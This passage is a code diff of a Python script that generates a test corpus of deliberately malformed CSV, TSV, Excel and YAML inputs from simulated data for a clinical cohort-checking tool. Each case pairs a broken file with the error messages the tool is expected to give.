@@ -1,8 +1,10 @@
-"""Regenerate the broken-input corpus from the SIMULATED demo files.
+"""Regenerate the broken-input corpus from the SIMULATED demo files (deterministic).
 
 Run from the project folder: python tests/corpus/make_corpus.py
-Each case folder holds one centre file and its mapping; tests/corpus/cases.yaml says which
-exit status and which message `her2cohort check --centre <mapping>` must give.
+Each case folder holds one centre file and its mapping (or, for configuration cases, a study
+config); the specification of every case (exit status, rule, message fragments, rows and
+quarantined rows) is written beside them to tests/corpus/cases.yaml, from the SPECS below, so
+that the intended message sits next to the code that breaks the file.
 """
 
 from __future__ import annotations
@@ -11,11 +13,20 @@ import shutil
 from pathlib import Path
 
 import yaml
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
+from openpyxl.chart import BarChart, Reference
+from openpyxl.styles import PatternFill
 
 ROOT = Path(__file__).resolve().parents[2]
 HERE = Path(__file__).resolve().parent
 N = 12  # data rows kept per case
+SPECS: dict[str, dict] = {}
+
+
+def spec(name: str, exit: int, rule: str | None, messages: list[str], **extra) -> None:
+    """Register what ``her2cohort check`` must say for this case (see cases.yaml header)."""
+    SPECS[name] = {"exit": exit, **({"rule": rule} if rule else {}), "messages": messages,
+                   **extra}
 
 
 def js01_lines() -> list[str]:
@@ -23,11 +34,30 @@ def js01_lines() -> list[str]:
     return text.splitlines()[: N + 1]
 
 
-def mapping(name: str, base: str, filename: str, **changes) -> None:
-    m = yaml.safe_load((ROOT / "config/centres" / f"{base}.yaml").read_text("utf-8"))
+def js04_lines() -> list[str]:
+    text = (ROOT / "data/demo/raw/JS04_SIMULATED_registry.tsv").read_text("utf-8")
+    return text.splitlines()[: N + 1]
+
+
+def base_mapping(base: str) -> dict:
+    return yaml.safe_load((ROOT / "config/centres" / f"{base}.yaml").read_text("utf-8"))
+
+
+def mapping(name: str, base: str, filename: str, allow: bool = True, **changes) -> None:
+    m = base_mapping(base)
     m["file"] = f"tests/corpus/{name}/{filename}"
-    m.update(changes)
-    (HERE / name / "centre.yaml").write_text(
+    if allow:  # the corpus lives outside data/: say so explicitly, as a user would
+        m["allow_outside_data_dirs"] = True
+    for k, v in changes.items():
+        if v is None:
+            m.pop(k, None)
+        else:
+            m[k] = v
+    write_mapping(name, m)
+
+
+def write_mapping(name: str, m: dict, fname: str = "centre.yaml") -> None:
+    (HERE / name / fname).write_text(
         f"# broken-input case '{name}' (SIMULATED data)\n"
         + yaml.safe_dump(m, allow_unicode=True, sort_keys=False), "utf-8")
 
@@ -40,33 +70,67 @@ def case(name: str) -> Path:
     return d
 
 
-def write(d: Path, lines: list[str], enc: str = "utf-8") -> None:
-    (d / "data.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode(enc))
+def write(d: Path, lines: list[str], enc: str = "utf-8", name: str = "data.csv",
+          end: str = "\r\n") -> None:
+    (d / name).write_bytes((end.join(lines) + end).encode(enc))
 
 
-def main() -> None:
-    lines = js01_lines()
-    header = lines[0].split(";")
+def split(lines: list[str], sep: str = ";") -> list[list[str]]:
+    return [ln.split(sep) for ln in lines]
 
+
+def join(rows: list[list[str]], sep: str = ";") -> list[str]:
+    return [sep.join(r) for r in rows]
+
+
+def with_comment(lines: list[str], sep: str = ";") -> list[list[str]]:
+    """JS01 rows with a free-text 'Comment' column at the end (unmapped, as in many exports)."""
+    rows = split(lines, sep)
+    rows[0].append("Comment")
+    for r in rows[1:]:
+        r.append("")
+    return rows
+
+
+def js05_book(keep_readme: bool = True):
+    wb = load_workbook(ROOT / "data/demo/raw/JS05_SIMULATED_database.xlsx")
+    ws = wb["data"]
+    ws.delete_rows(N + 2, ws.max_row)
+    if not keep_readme:
+        del wb["README"]
+    return wb, ws
+
+
+def col_of(ws, name: str) -> int:
+    return next(c.column for c in ws[1] if c.value == name)
+
+
+# --------------------------------------------------------------------------------------------
+def original_cases(lines, header) -> None:
     d = case("wrong_delimiter")  # file written with commas, mapping says ';'
     write(d, [ln.replace(",", ".").replace(";", ",") for ln in lines])
     mapping("wrong_delimiter", "JS01", "data.csv")
+    spec("wrong_delimiter", 1, "file_parse",
+         ["row 1", "the header has no ';' delimiter", "looks ','-separated", "set 'delimiter:'"])
 
     d = case("unknown_code")  # 'B' for bilateral has no mapping
-    rows = [ln.split(";") for ln in lines]
-    side = header.index("Side")
-    rows[4][side] = "B"
+    rows = split(lines)
+    rows[4][header.index("Side")] = "B"
     rows[9][header.index("Histology")] = "mucinous"
-    write(d, [";".join(r) for r in rows])
+    write(d, join(rows))
     mapping("unknown_code", "JS01", "data.csv")
+    spec("unknown_code", 1, "unknown_code",
+         ["row 5, column 'Side', value 'B'", "no mapping for 'laterality'",
+          "row 10, column 'Histology', value 'mucinous'"])
 
     d = case("missing_column")  # the cN column was dropped from the export
     cn = header.index("cN")
     write(d, [";".join(c for i, c in enumerate(ln.split(";")) if i != cn) for ln in lines])
     mapping("missing_column", "JS01", "data.csv")
+    spec("missing_column", 1, "column_missing", ["expected column 'cN'", "is not in the header"])
 
     d = case("swapped_day_month")  # exported as month/day/year, mapping says day/month/year
-    rows = [ln.split(";") for ln in lines]
+    rows = split(lines)
     date_cols = [header.index(c) for c in ("Date of birth", "Diagnosis date", "NAT start",
                                            "Surgery date", "Last follow-up")]
     for r in rows[1:]:
@@ -74,48 +138,664 @@ def main() -> None:
             if r[c]:
                 dd, mm, yy = r[c].split("/")
                 r[c] = f"{mm}/{dd}/{yy}"
-    write(d, [";".join(r) for r in rows])
+    write(d, join(rows))
     mapping("swapped_day_month", "JS01", "data.csv")
+    spec("swapped_day_month", 1, "bad_date",
+         ["row 2, column 'Date of birth', value '[redacted]'", "expected a date like 31/12/2019",
+          "day and month swapped"])
 
     d = case("impossible_dates")  # surgery before diagnosis, last contact before surgery
-    rows = [ln.split(";") for ln in lines]
+    rows = split(lines)
     rows[3][header.index("Surgery date")] = "01/01/2010"
     rows[6][header.index("Last follow-up")] = rows[6][header.index("NAT start")]
-    write(d, [";".join(r) for r in rows])
+    write(d, join(rows))
     mapping("impossible_dates", "JS01", "data.csv")
+    spec("impossible_dates", 0, "date_order",
+         ["row 4, column 'Surgery date'", "days before start of neoadjuvant therapy",
+          "row 7, column 'Last follow-up'", "days before surgery"], rows=12, quarantined=2)
 
     d = case("duplicate_patient")  # row 5 exported twice
     write(d, lines + [lines[4]])
     mapping("duplicate_patient", "JS01", "data.csv")
+    spec("duplicate_patient", 0, "duplicate_id",
+         ["row 14, column 'Patient ID'", "the same patient ID as", "row 5, which is kept"],
+         rows=13, quarantined=1)
 
     d = case("empty_file")
     (d / "data.csv").write_bytes(b"")
     mapping("empty_file", "JS01", "data.csv")
+    spec("empty_file", 1, "file_empty", ["the file is empty"])
 
     d = case("wrong_sheet")  # mapping names a sheet that is not in the workbook
-    wb = load_workbook(ROOT / "data/demo/raw/JS05_SIMULATED_database.xlsx")
-    ws = wb["data"]
-    ws.delete_rows(N + 2, ws.max_row)
+    wb, _ = js05_book()
     wb.save(d / "data.xlsx")
     mapping("wrong_sheet", "JS05", "data.xlsx", sheet="Sheet1")
+    spec("wrong_sheet", 1, "sheet_missing",
+         ["no sheet named 'Sheet1'", "the workbook has 'README', 'data'"])
 
     d = case("non_utf8")  # a GBK export read as UTF-8
     gbk = (ROOT / "data/demo/raw/JS03_SIMULATED_gbk.csv").read_bytes().split(b"\r\n")[: N + 1]
     (d / "data.csv").write_bytes(b"\r\n".join(gbk) + b"\r\n")
     mapping("non_utf8", "JS03", "data.csv", encoding="utf-8")
+    spec("non_utf8", 1, "file_encoding",
+         ["cannot be decoded as 'utf-8'", "in row 1, column", "gbk (Chinese Windows text)",
+          "set 'encoding:'"])
 
     d = case("bad_number")  # decimal point in a decimal-comma file, text in a number column
-    rows = [ln.split(";") for ln in lines]
+    rows = split(lines)
     rows[2][header.index("Ki67 %")] = "about 30"
     rows[5][header.index("Tumour size (mm)")] = "25.5"
-    write(d, [";".join(r) for r in rows])
+    write(d, join(rows))
     mapping("bad_number", "JS01", "data.csv")
+    spec("bad_number", 1, "bad_number",
+         ["row 3, column 'Ki67 %', value 'about 30'",
+          "row 6, column 'Tumour size (mm)', value '25.5'", "decimal mark ','"])
 
     d = case("missing_value")  # a record without a diagnosis date
-    rows = [ln.split(";") for ln in lines]
+    rows = split(lines)
     rows[8][header.index("Diagnosis date")] = ""
-    write(d, [";".join(r) for r in rows])
+    write(d, join(rows))
     mapping("missing_value", "JS01", "data.csv")
+    spec("missing_value", 0, "missing_value",
+         ["row 9, column 'Diagnosis date'", "Date of histological diagnosis is missing"],
+         rows=12, quarantined=1)
+
+
+# --------------------------------------------------------------------------------------------
+def row_loss_cases(lines) -> None:
+    """Silent row loss: quotes, multi-line cells, huge cells."""
+    big_lines = (ROOT / "data/demo/raw/JS01_SIMULATED_neoadjuvant_her2.csv") \
+        .read_text("utf-8-sig").splitlines()[:41]
+
+    d = case("unclosed_quote_eof")  # a comment opens a quote that is never closed
+    rows = with_comment(big_lines)
+    rows[5][-1] = '"see report from 12/2013'
+    write(d, join(rows))
+    mapping("unclosed_quote_eof", "JS01", "data.csv")
+    spec("unclosed_quote_eof", 1, "unclosed_quote",
+         ["a quote opened in row 6 (line 6 of the file), column 'Comment', is never closed",
+          "35 following lines were read into this cell"])
+
+    d = case("unclosed_quote_closed_later")  # closed by another comment's quote: counts match
+    rows = with_comment(big_lines)
+    rows[10][-1] = '"biopsy repeated'
+    rows[30][-1] = 'patient says "ok"'
+    write(d, join(rows))
+    mapping("unclosed_quote_closed_later", "JS01", "data.csv")
+    spec("unclosed_quote_closed_later", 1, "unclosed_quote",
+         ["quote opened in row 11 (line 11 of the file), column 'Comment'",
+          "20 following lines were read into this cell", "look like data rows"])
+
+    d = case("multiline_comment_ok")  # a real multi-line comment: kept, row count unchanged
+    rows = with_comment(lines)
+    rows[3][-1] = '"first line\nsecond line\nthird line"'
+    write(d, join(rows))
+    mapping("multiline_comment_ok", "JS01", "data.csv")
+    spec("multiline_comment_ok", 0, "column_unmapped", ["column 'Comment'", "is ignored"],
+         rows=12, quarantined=0)
+
+    d = case("quoted_delimiter_ok")  # delimiters and quotes inside a properly quoted cell
+    rows = with_comment(lines)
+    rows[2][-1] = '"size 2;5 cm; ""re-check"""'
+    write(d, join(rows))
+    mapping("quoted_delimiter_ok", "JS01", "data.csv")
+    spec("quoted_delimiter_ok", 0, "column_unmapped", ["column 'Comment'"], rows=12,
+         quarantined=0)
+
+    d = case("huge_cell")  # a pasted pathology report of 200 KB
+    rows = with_comment(lines)
+    rows[4][-1] = "Microscopy: invasive carcinoma. " * 6400
+    write(d, join(rows))
+    mapping("huge_cell", "JS01", "data.csv")
+    spec("huge_cell", 0, "cell_large", ["row 5, column 'Comment'", "KB accepted as text"],
+         rows=12, quarantined=0)
+
+    d = case("huge_cell_unclosed")  # the huge cell also opens a quote that is never closed
+    rows = with_comment(lines)
+    rows[2][-1] = '"' + "Pathology report text. " * 8000
+    write(d, join(rows))
+    mapping("huge_cell_unclosed", "JS01", "data.csv")
+    spec("huge_cell_unclosed", 1, "unclosed_quote",
+         ["quote opened in row 3", "column 'Comment', is never closed"])
+
+    d = case("tsv_unclosed_quote")  # the same in a tab-separated registry extract
+    rows = split(js04_lines(), "\t")
+    rows[0].append("NOTE")
+    for r in rows[1:]:
+        r.append("")
+    rows[4][-1] = '"to be confirmed'
+    rows[9][-1] = 'confirmed "yes"'
+    write(d, join(rows, "\t"), end="\n", name="data.tsv")
+    mapping("tsv_unclosed_quote", "JS04", "data.tsv")
+    spec("tsv_unclosed_quote", 1, "unclosed_quote",
+         ["quote opened in row 5", "column 'NOTE'", "5 following lines"])
+
+    d = case("tsv_ok")
+    write(d, js04_lines(), end="\n", name="data.tsv")
+    mapping("tsv_ok", "JS04", "data.tsv")
+    spec("tsv_ok", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("tsv_read_as_csv")  # mapping says ',' for a tab-separated file
+    write(d, js04_lines(), end="\n", name="data.tsv")
+    mapping("tsv_read_as_csv", "JS04", "data.tsv", delimiter=",")
+    spec("tsv_read_as_csv", 1, "file_parse", ["the header has no ',' delimiter",
+                                              "looks '\\t'-separated"])
+
+    d = case("short_row")  # a row that lost cells
+    rows = split(lines)
+    rows[6] = rows[6][:20]
+    write(d, join(rows))
+    mapping("short_row", "JS01", "data.csv")
+    spec("short_row", 1, "file_parse", ["row 7", "row has 20 cells, the header has 33"])
+
+    d = case("shifted_row_no_leak")  # a stray delimiter shifts a row; its dates must not leak
+    rows = split(lines)
+    rows[4].insert(1, "x")
+    write(d, join(rows))
+    mapping("shifted_row_no_leak", "JS01", "data.csv")
+    spec("shifted_row_no_leak", 1, "file_parse",
+         ["row 5", "row has 34 cells, the header has 33"])
+
+
+# --------------------------------------------------------------------------------------------
+def excel_cases() -> None:
+    d = case("xlsx_ok")
+    wb, _ = js05_book()
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_ok", "JS05", "data.xlsx")
+    spec("xlsx_ok", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("xlsx_formula_no_value")  # written by a script: formulas have no stored result
+    wb, ws = js05_book()
+    ws.cell(4, col_of(ws, "ER")).value = "=10*5"
+    ws.cell(7, col_of(ws, "Ki67")).value = "=SUM(5,10)"
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_formula_no_value", "JS05", "data.xlsx")
+    spec("xlsx_formula_no_value", 1, "formula_no_value",
+         ["row 4, column 'ER'", "row 7, column 'Ki67'", "formula without a stored result"])
+
+    d = case("xlsx_merged_cells")  # the same regimen merged over three rows
+    wb, ws = js05_book()
+    c = col_of(ws, "NAT")
+    ws.merge_cells(start_row=3, start_column=c, end_row=5, end_column=c)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_merged_cells", "JS05", "data.xlsx")
+    spec("xlsx_merged_cells", 1, "merged_cells",
+         ["row 3, column 'NAT'", "merged cells (rows 3-5)", "only the first cell holds the value"])
+
+    d = case("xls_old_format")  # Excel 97-2003 (OLE2) file
+    (d / "data.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
+    mapping("xls_old_format", "JS05", "data.xls")
+    spec("xls_old_format", 1, "file_parse", ["old Excel 97-2003 workbook (.xls)",
+                                             "save it as .xlsx"])
+
+    d = case("xlsx_named_csv")  # a workbook saved under a .csv name
+    wb, _ = js05_book()
+    wb.save(d / "data.csv")
+    mapping("xlsx_named_csv", "JS01", "data.csv")
+    spec("xlsx_named_csv", 1, "file_parse",
+         ["the file is an Excel workbook (.xlsx) although the mapping says 'format: csv'"])
+
+    d = case("csv_named_xlsx")  # a CSV saved under an .xlsx name
+    write(d, js01_lines(), name="data.xlsx")
+    mapping("csv_named_xlsx", "JS05", "data.xlsx")
+    spec("csv_named_xlsx", 1, "file_parse",
+         ["the file is a text file (CSV or TSV), not an .xlsx workbook", "set 'format: csv'"])
+
+    d = case("xlsx_chart_first")  # the first sheet is a chart; the mapping names no sheet
+    wb, ws = js05_book(keep_readme=False)
+    cs = wb.create_chartsheet("Chart1", 0)
+    chart = BarChart()
+    chart.add_data(Reference(ws, min_col=col_of(ws, "ER"), min_row=1, max_row=N + 1),
+                   titles_from_data=True)
+    cs.add_chart(chart)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_chart_first", "JS05", "data.xlsx", sheet=None)
+    spec("xlsx_chart_first", 0, "sheet_chart",
+         ["the first sheet 'Chart1' is a chart", "the first worksheet 'data' is read"],
+         rows=12, quarantined=None)
+
+    d = case("xlsx_chart_named")  # the mapping names the chart sheet
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_chart_named", "JS05", "data.xlsx", sheet="Chart1")
+    spec("xlsx_chart_named", 1, "sheet_missing", ["sheet 'Chart1' is a chart, not a table"])
+
+    d = case("xlsx_hidden_first_sheet")  # an old hidden copy comes first; no sheet named
+    wb, ws = js05_book(keep_readme=False)
+    old = wb.copy_worksheet(ws)
+    old.title = "old"
+    old.sheet_state = "hidden"
+    wb.move_sheet("old", offset=-1)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_hidden_first_sheet", "JS05", "data.xlsx", sheet=None)
+    spec("xlsx_hidden_first_sheet", 1, "sheet_hidden",
+         ["the first sheet 'old' is hidden and would be read by default",
+          "the visible sheet(s): 'data'"])
+
+    d = case("xlsx_split_sheets")  # rows 8-12 moved to a second sheet with the same header
+    wb, ws = js05_book()
+    ws2 = wb.create_sheet("data (2)")
+    ws2.append([c.value for c in ws[1]])
+    for r in range(9, N + 2):
+        ws2.append([c.value for c in ws[r]])
+    ws.delete_rows(9, N + 1)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_split_sheets", "JS05", "data.xlsx")
+    spec("xlsx_split_sheets", 1, "sheet_split",
+         ["sheet 'data (2)' has the same header as sheet 'data' and 5 data row(s) that are "
+          "not read", "records split over two sheets"])
+
+    d = case("xlsx_trailing_format_rows")  # 3000 formatted but empty rows after the data
+    wb, ws = js05_book()
+    fill = PatternFill("solid", fgColor="FFFF00")
+    for r in range(N + 2, N + 3002):
+        ws.cell(r, 1).fill = fill
+        ws.cell(r, 2).value = ""
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_trailing_format_rows", "JS05", "data.xlsx")
+    spec("xlsx_trailing_format_rows", 0, "blank_row",
+         ["3000 empty row(s) after the last record (row 13) ignored", "1 x blank_row [warn]"],
+         rows=12, quarantined=None)
+
+    d = case("xlsx_trailing_unnamed_columns")  # formatted empty columns right of the table
+    wb, ws = js05_book()
+    for r in range(1, N + 2):
+        ws.cell(r, 40).value = ""
+        ws.cell(r, 41).fill = fill
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_trailing_unnamed_columns", "JS05", "data.xlsx")
+    spec("xlsx_trailing_unnamed_columns", 0, None, ["12 records read"], rows=12,
+         quarantined=None)
+
+    d = case("xlsx_datetime_cells")  # date cells that carry a time of day
+    wb, ws = js05_book()
+    import datetime as dt
+    for r in range(2, N + 2):
+        c = ws.cell(r, col_of(ws, "date_dx"))
+        if isinstance(c.value, dt.datetime):
+            c.value = c.value.replace(hour=14, minute=30)
+            c.number_format = "yyyy-mm-dd hh:mm"
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_datetime_cells", "JS05", "data.xlsx")
+    spec("xlsx_datetime_cells", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("xlsx_title_row")  # a title line above the header (birth dates must not leak)
+    wb, ws = js05_book()
+    ws.insert_rows(1)
+    ws.cell(1, 1).value = "Neoadjuvant HER2 cohort, export of 2024"
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_title_row", "JS05", "data.xlsx")
+    spec("xlsx_title_row", 1, "header",
+         ["the header seems to be on row 2, not row 1", "set 'header_row: 2'"])
+
+    d = case("xlsx_title_row_fixed")  # ... and the fix: header_row: 2
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_title_row_fixed", "JS05", "data.xlsx", header_row=2)
+    spec("xlsx_title_row_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("xlsx_group_header")  # merged group headers above the real header
+    wb, ws = js05_book()
+    ws.insert_rows(1)
+    ws.cell(1, 1).value = "Patient"
+    ws.cell(1, 9).value = "Tumour"
+    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=8)
+    ws.merge_cells(start_row=1, start_column=9, end_row=1, end_column=20)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_group_header", "JS05", "data.xlsx")
+    spec("xlsx_group_header", 1, "header", ["the header seems to be on row 2, not row 1"])
+
+    d = case("xlsx_no_header")  # the header row was deleted
+    wb, ws = js05_book()
+    ws.delete_rows(1)
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_no_header", "JS05", "data.xlsx")
+    spec("xlsx_no_header", 1, "header", ["no header found", "may have no header row"])
+
+    d = case("xlsx_header_linebreak")  # line breaks typed inside header cells
+    wb, ws = js05_book()
+    ws.cell(1, col_of(ws, "date_dx")).value = "date\n_dx"
+    wb.save(d / "data.xlsx")
+    m = base_mapping("JS05")
+    mapping("xlsx_header_linebreak", "JS05", "data.xlsx",
+            columns={**m["columns"], "diagnosis_date": "date _dx"})
+    spec("xlsx_header_linebreak", 0, "header_linebreak", ["header cells contain line breaks"],
+         rows=12, quarantined=None)
+
+    d = case("xlsx_shifted_value")  # a value beyond the header columns
+    wb, ws = js05_book()
+    ws.cell(6, 36).value = "12/03/1961"
+    wb.save(d / "data.xlsx")
+    mapping("xlsx_shifted_value", "JS05", "data.xlsx")
+    spec("xlsx_shifted_value", 1, "file_parse",
+         ["row 6", "value in column 36, beyond the 34 header columns", "a shifted row"])
+
+    d = case("xlsx_damaged")  # a truncated workbook
+    wb, _ = js05_book()
+    wb.save(d / "full.xlsx")
+    (d / "data.xlsx").write_bytes((d / "full.xlsx").read_bytes()[:2000])
+    (d / "full.xlsx").unlink()
+    mapping("xlsx_damaged", "JS05", "data.xlsx")
+    spec("xlsx_damaged", 1, "file_parse", ["not a readable .xlsx workbook"])
+
+
+# --------------------------------------------------------------------------------------------
+def csv_header_cases(lines, header) -> None:
+    d = case("csv_sep_line")  # Excel's "sep=;" hint above the header
+    write(d, ["sep=;"] + lines)
+    mapping("csv_sep_line", "JS01", "data.csv")
+    spec("csv_sep_line", 1, "header",
+         ["the header seems to be on row 2, not row 1", "Excel's delimiter hint 'sep=;'",
+          "set 'header_row: 2'"])
+
+    d = case("csv_sep_line_fixed")
+    write(d, ["sep=;"] + lines)
+    mapping("csv_sep_line_fixed", "JS01", "data.csv", header_row=2)
+    spec("csv_sep_line_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("csv_title_line")  # a report title and a blank line above the header
+    write(d, ["Breast cancer registry export;;;", ";;;"] + lines)
+    mapping("csv_title_line", "JS01", "data.csv")
+    spec("csv_title_line", 1, "header",
+         ["the header seems to be on row 3, not row 1", "a title line", "'header_row: 3'"])
+
+    d = case("csv_no_header")
+    write(d, lines[1:])
+    mapping("csv_no_header", "JS01", "data.csv")
+    spec("csv_no_header", 1, "header", ["no header found"])
+
+    d = case("csv_header_linebreak")  # a quoted header cell with a line break
+    rows = split(lines)
+    rows[0][header.index("Date of birth")] = '"Date of\nbirth"'
+    write(d, join(rows))
+    mapping("csv_header_linebreak", "JS01", "data.csv")
+    spec("csv_header_linebreak", 0, "header_linebreak", ["header cells contain line breaks"],
+         rows=12, quarantined=None)
+
+    d = case("csv_trailing_delimiters")  # every line ends with ';;;' (empty unnamed columns)
+    write(d, [ln + ";;;" for ln in lines])
+    mapping("csv_trailing_delimiters", "JS01", "data.csv")
+    spec("csv_trailing_delimiters", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("csv_trailing_blank_lines")  # 500 empty ';;;' lines after the data
+    write(d, lines + [";" * 32] * 500)
+    mapping("csv_trailing_blank_lines", "JS01", "data.csv")
+    spec("csv_trailing_blank_lines", 0, "blank_row",
+         ["500 empty row(s) after the last record", "1 x blank_row [warn]"], rows=12,
+         quarantined=None)
+
+    d = case("id_scientific")  # IDs mangled by Excel into scientific notation
+    rows = split(lines)
+    for k, r in enumerate(rows[1:], start=1):
+        r[0] = f"2.00147E+09" if k % 2 else f"20014{k:05d}"
+    write(d, join(rows))
+    mapping("id_scientific", "JS01", "data.csv")
+    spec("id_scientific", 1, "id_mangled",
+         ["row 2, column 'Patient ID'", "6 x id_mangled", "scientific notation",
+          "export the ID column as text"])
+
+    d = case("serial_datetime")  # Excel serial day numbers with a time part
+    rows = split(js04_lines(), "\t")
+    hdr = rows[0]
+    base = __import__("datetime").date(1899, 12, 30)
+    import datetime as dt
+    for r in rows[1:]:
+        for c in ("DOB", "DX_DATE", "NACT_START", "SURG_DATE", "LAST_FU", "REC_DATE", "DOD"):
+            v = r[hdr.index(c)]
+            if v not in ("-", ""):
+                days = (dt.datetime.strptime(v, "%Y/%m/%d").date() - base).days
+                r[hdr.index(c)] = f"{days}.{'5' if c == 'DX_DATE' else '0'}"
+    write(d, join(rows, "\t"), end="\n", name="data.tsv")
+    mapping("serial_datetime", "JS04", "data.tsv", date_format="excel_serial")
+    spec("serial_datetime", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("death_before_diagnosis")
+    rows = split(lines)
+    r = rows[3]
+    r[header.index("Death date")] = "01/01/2012"
+    r[header.index("Status")] = "deceased"
+    write(d, join(rows))
+    mapping("death_before_diagnosis", "JS01", "data.csv")
+    spec("death_before_diagnosis", 0, "date_order",
+         ["row 4, column 'Death date', value '[redacted]'", "death is", "days before diagnosis"],
+         rows=12, quarantined=1)
+
+
+# --------------------------------------------------------------------------------------------
+def encoding_cases(lines, header) -> None:
+    d = case("utf16_bom")  # Excel "Unicode text": UTF-16 with FF FE
+    write(d, lines, enc="utf-16")
+    mapping("utf16_bom", "JS01", "data.csv")
+    spec("utf16_bom", 1, "file_encoding",
+         ["the file is UTF-16 text (it starts with the byte-order mark FF FE)",
+          "set 'encoding: utf-16'"])
+
+    d = case("utf16_ok")
+    write(d, lines, enc="utf-16")
+    mapping("utf16_ok", "JS01", "data.csv", encoding="utf-16")
+    spec("utf16_ok", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("cp1252_read_as_utf8")  # Western European Windows text
+    rows = with_comment(lines)
+    rows[5][-1] = "Réévaluation après chimiothérapie"
+    write(d, join(rows), enc="cp1252")
+    mapping("cp1252_read_as_utf8", "JS01", "data.csv")
+    spec("cp1252_read_as_utf8", 1, "file_encoding",
+         ["byte 0xe9 in row 6, column 'Comment'", "cp1252 (Western European"])
+
+    d = case("cp1252_ok")
+    write(d, join(rows), enc="cp1252")
+    mapping("cp1252_ok", "JS01", "data.csv", encoding="cp1252")
+    spec("cp1252_ok", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    gbk = (ROOT / "data/demo/raw/JS03_SIMULATED_gbk.csv").read_bytes().split(b"\r\n")[: N + 1]
+    d = case("gbk_behind_utf8_bom")  # a badly converted file: UTF-8 BOM, GBK text
+    (d / "data.csv").write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(gbk) + b"\r\n")
+    mapping("gbk_behind_utf8_bom", "JS03", "data.csv", encoding="utf-8-sig")
+    spec("gbk_behind_utf8_bom", 1, "file_encoding",
+         ["UTF-8 byte-order mark but the text behind it is GBK", "set 'encoding: gbk'"])
+
+    d = case("gbk_behind_utf8_bom_fixed")
+    (d / "data.csv").write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(gbk) + b"\r\n")
+    mapping("gbk_behind_utf8_bom_fixed", "JS03", "data.csv", encoding="gbk")
+    spec("gbk_behind_utf8_bom_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("bad_byte_in_cell")  # one bad byte in a UTF-8 file: row and column, not offset
+    rows = split(lines)
+    rows[7][header.index("Histology")] = "ID#"
+    data = "\r\n".join(join(rows)).encode("utf-8").replace(b";ID#;", b";ID\xff;")
+    (d / "data.csv").write_bytes(data + b"\r\n")
+    mapping("bad_byte_in_cell", "JS01", "data.csv", encoding="utf-8")
+    spec("bad_byte_in_cell", 1, "file_encoding", ["byte 0xff in row 8, column 'Histology'"])
+
+    d = case("unknown_encoding")
+    write(d, lines)
+    mapping("unknown_encoding", "JS01", "data.csv", encoding="utf8x")
+    spec("unknown_encoding", 2, None, ["configuration error", "unknown encoding 'utf8x'"])
+
+    # invisible characters
+    d = case("invisible_zero_width")  # 'L' + zero-width space, 'R' + no-break space
+    rows = split(lines)
+    rows[2][header.index("Side")] += "\u200b"
+    rows[3][header.index("Side")] += "\u00a0"
+    rows[4][header.index("Regimen")] = "\ufeff" + rows[4][header.index("Regimen")]
+    write(d, join(rows))
+    mapping("invisible_zero_width", "JS01", "data.csv")
+    spec("invisible_zero_width", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("invisible_nul")  # NUL bytes inside cells
+    rows = split(lines)
+    rows[5][header.index("Histology")] += "\x00"
+    write(d, join(rows))
+    mapping("invisible_nul", "JS01", "data.csv")
+    spec("invisible_nul", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+    d = case("invisible_shown_escaped")  # a left-to-right mark is kept and shown escaped
+    rows = split(lines)
+    rows[6][header.index("Side")] = "B\u200e"
+    write(d, join(rows))
+    mapping("invisible_shown_escaped", "JS01", "data.csv")
+    spec("invisible_shown_escaped", 1, "unknown_code", ["row 7, column 'Side', value 'B\\u200e'"])
+
+    d = case("decomposed_accents")  # NFD text matches an NFC mapping key
+    rows = split(lines)
+    side = header.index("Side")
+    for r in rows[1:]:
+        r[side] = {"L": "va\u0308nster", "R": "ho\u0308ger"}[r[side]]
+    write(d, join(rows))
+    mapping("decomposed_accents", "JS01", "data.csv",
+            values={**base_mapping("JS01")["values"],
+                    "laterality": {"v\u00e4nster": "left", "h\u00f6ger": "right"}})
+    spec("decomposed_accents", 0, None, ["12 records read"], rows=12, quarantined=None)
+
+
+# --------------------------------------------------------------------------------------------
+def mapping_cases(lines) -> None:
+    d = case("yaml_boolean_keys")  # unquoted no:/yes: read by YAML as booleans
+    wb, _ = js05_book()
+    wb.save(d / "data.xlsx")
+    mapping("yaml_boolean_keys", "JS05", "data.xlsx")
+    text = (d / "centre.yaml").read_text("utf-8")
+    assert "'no': pre" in text and "'yes': post" in text
+    text = text.replace("'no': pre", "no: pre").replace("'yes': post", "yes: post")
+    (d / "centre.yaml").write_text(text, "utf-8")
+    spec("yaml_boolean_keys", 2, None,
+         ["values: menopausal_status: the key False is a YAML boolean", "quote it, e.g. 'no'"])
+
+    d = case("target_not_canonical")  # L: links
+    write(d, lines)
+    mapping("target_not_canonical", "JS01", "data.csv",
+            values={**base_mapping("JS01")["values"], "laterality": {"L": "links", "R": "right"}})
+    spec("target_not_canonical", 2, None,
